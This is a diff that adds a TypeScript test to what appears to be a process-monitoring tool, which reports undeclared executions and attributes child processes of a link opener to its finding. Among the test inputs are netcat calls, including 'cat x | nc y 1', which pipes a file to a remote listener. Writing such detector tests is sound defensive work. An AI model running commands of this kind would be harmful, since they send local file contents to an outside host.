@@ -46,3 +46,20 @@ test('a shell inside of which nothing hides: what it does not name is reported a
 	const seen = [exec(['/bin/sh', '-c', './run'], { during: 1 }), exec(['/usr/bin/nc', 'y', '1'], { during: 1 })];
 	expect(severities('undeclared-exec', { seen })).toBe('high, medium');
 });
+
+test('what an opener of links starts in turn is part of its finding', () => {
+	const opener = exec(['/usr/bin/xdg-open', 'https://shop.example'], { during: 1, pid: 300 });
+	const fork: Sight = { kind: 'fork', child: 301, thread: false, during: 1, pid: 300 };
+	const by = (pid: number, ...words: readonly [string, ...string[]]) => exec(words, { during: 1, pid });
+	const [only, ...others] = findingsOf('undeclared-exec', {
+		seen: [opener, fork, by(301, '/usr/bin/xprop'), by(301, '/usr/bin/dbus-send')],
+	});
+	expect(others).toEqual([]);
+	expect(only).toMatchObject({
+		severity: 'medium',
+		observed: expect.stringMatching(/it started \/usr\/bin\/(?:xprop|dbus-send).* in turn/),
+	});
+	// Hostile twins: what is worse is told by itself, and so is what the server starts beside it.
+	expect(severities('undeclared-exec', { seen: [opener, fork, by(301, '/bin/sh', '-c', 'cat x | nc y 1')] })).toBe('high, medium');
+	expect(severities('undeclared-exec', { seen: [opener, by(400, '/usr/bin/xprop')] })).toBe('medium, medium');
+});
